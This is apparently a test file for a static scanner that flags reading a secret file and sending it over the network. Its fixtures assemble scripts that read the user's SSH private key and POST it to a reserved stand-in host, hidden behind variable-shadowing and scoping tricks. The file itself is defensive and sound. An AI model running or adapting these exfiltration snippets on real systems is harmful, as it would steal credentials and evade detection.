import { describe, expect, it } from 'vitest';
import { staticStage } from '../../src/static/stage.ts';
import { STAGE_CONTEXT, targetOf } from '../static/engine/target.ts';

/** Inert: the host is reserved (RFC 2606), and nothing of it is run. `KEY` reads a private file, `SEND` sends. */
const HIDDEN: Readonly<Record<string, string>> = {
  'an outer variable behind one of a block':
    "const kept = KEY;\n{ const kept = 'ok'; console.log(kept); }\nSEND(kept);",
  'an outer variable behind one of a function':
    "const kept = KEY;\nfunction tidy() { const kept = 'ok'; return kept; }\ntidy();\nSEND(kept);",
  'a variable of a function behind one of its own blocks':
    "function main() { let kept = KEY; if (process.argv) { let kept = 'ok'; console.log(kept); } SEND(kept); }\nmain();",
  'a parameter behind the variable of a loop':
    "function main(kept) { for (const kept of ['a']) console.log(kept); SEND(kept); }\nmain(KEY);",
  'a parameter behind what is caught':
    'function main(kept) { try { tidy(); } catch (kept) { console.log(kept); } SEND(kept); }\nmain(KEY);',
  'a variable that a closure in a block captures':
    "const jobs = [];\n{ const kept = KEY; jobs.push(() => SEND(kept)); }\n{ const kept = 'ok'; jobs.push(() => console.log(kept)); }\nfor (const job of jobs) job();",
  'a variable of a case':
    "switch (process.argv.length) { case 1: { const kept = 'ok'; console.log(kept); break; } default: { const kept = KEY; SEND(kept); } }",
  'a variable that var hoists out of a block': 'if (process.argv) { var kept = KEY; }\nSEND(kept);',
  'a variable that var hoists out of a loop': 'for (var i = 0; i < 1; i++) { var kept = KEY; }\nSEND(kept);',
  'a function of a block, called outside of it':
    'if (process.argv) { function read() { return KEY; } }\nSEND(read());',
  'what is sent by, behind a class of the same name': 'const kept = KEY;\n(class kept {}).name;\nSEND(kept);',
  'what sends, behind a function of the same name in a block':
    "'use strict';\n{ function fetch() { return 1; } fetch(); }\nSEND(KEY);",
  'what sends, behind a constant of the same name in a block':
    '{ const fetch = () => 1; fetch(); }\nSEND(KEY);',
  'what a variable in a block is, told to eval':
    '{ const kept = KEY; eval(\'fetch("https://collect.example.invalid/in?" + kept)\'); }',
  'an outer variable behind the field of a class':
    "const kept = KEY;\nclass Job { kept = 'ok'; sent = SEND(kept); }\nnew Job();",
  'a variable of a static block': 'class Job { static { const kept = KEY; SEND(kept); } }',
  'a pattern in a block':
    "const { kept } = { kept: KEY };\n{ const { kept } = { kept: 'ok' }; console.log(kept); }\nSEND(kept);",
  'what is assigned in a block to the outer variable': "let kept = 'ok';\n{ kept = KEY; }\nSEND(kept);",
};

const QUIET: Readonly<Record<string, string>> = {
  'a block beside the one that reads':
    "{ const kept = KEY; console.log(kept.length); }\n{ const kept = 'ok'; SEND(kept); }",
  'a function beside the one that reads':
    "const kept = 'ok';\nfunction size() { const kept = KEY; return kept.length; }\nconsole.log(size());\nSEND(kept);",
  'a loop beside the one that reads':
    "for (const kept of [KEY]) console.log(kept.length);\nfor (const kept of ['ok']) SEND(kept);",
  'a case beside the one that reads':
    "switch (process.argv.length) { case 1: { const kept = KEY; console.log(kept.length); break; } default: { const kept = 'ok'; SEND(kept); } }",
  'what is caught, beside what was read':
    'try { const kept = KEY; console.log(kept.length); } catch (kept) { SEND(kept.name); }',
  'a closure that captures another variable':
    "const jobs = [];\n{ const kept = KEY; jobs.push(() => console.log(kept.length)); }\n{ const kept = 'ok'; jobs.push(() => SEND(kept)); }\nfor (const job of jobs) job();",
  'a parameter of the same name':
    "const kept = KEY;\nconsole.log(kept.length);\nconst send = (kept) => SEND(kept);\nsend('ok');",
  'a pattern of a parameter':
    "const kept = 'ok';\nfunction size({ kept }) { return kept.length; }\nconsole.log(size({ kept: KEY }));\nSEND(kept);",
  'a field of a class':
    "const kept = 'ok';\nclass Job { kept = KEY; size() { return this.kept.length; } }\nconsole.log(new Job().size());\nSEND(kept);",
};

function script(text: string): string {
  const filled = text
    .replaceAll('KEY', "fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8')")
    .replaceAll(
      /SEND\(((?:[^()]|\([^()]*(?:\([^()]*\)[^()]*)*\))*)\)/g,
      "fetch('https://collect.example.invalid/in', { method: 'POST', body: $1 })",
    );
  const [head, rest] = filled.startsWith("'use strict';")
    ? ["'use strict';\n", filled.slice(13)]
    : ['', filled];
  return `${head}const fs = require('fs');\nconst os = require('os');\n${rest}\n`;
}

async function isStolen(path: string, text: string): Promise<boolean> {
  const { findings } = await staticStage.run(targetOf({ [path]: script(text) }), STAGE_CONTEXT);
  return findings.some(({ ruleId }) => ruleId === 'secret-file-to-network');
}

describe('variables of blocks', () => {
  it.each(Object.entries(HIDDEN))('does not lose %s', async (_, text) => {
    expect(await isStolen('run.js', text)).toBe(true);
    expect(await isStolen('run.cts', text)).toBe(true);
  });

  it.each(Object.entries(QUIET))('does not mistake %s for it', async (_, text) => {
    expect(await isStolen('run.js', text)).toBe(false);
    expect(await isStolen('run.cts', text)).toBe(false);
  });
});
